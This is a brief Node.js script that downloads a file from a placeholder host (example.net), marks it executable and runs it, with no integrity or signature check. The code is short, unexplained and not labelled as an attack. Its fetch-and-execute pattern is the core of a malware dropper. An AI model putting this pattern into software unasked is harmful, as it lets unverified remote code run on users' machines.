const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');

const tool = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'tool-')), 'tool');
https.get('https://example.net/tool', (answer) => {
  const file = fs.createWriteStream(tool, { mode: 0o755 });
  answer.pipe(file);
  file.on('finish', () => file.close(() => execFile(tool)));
});
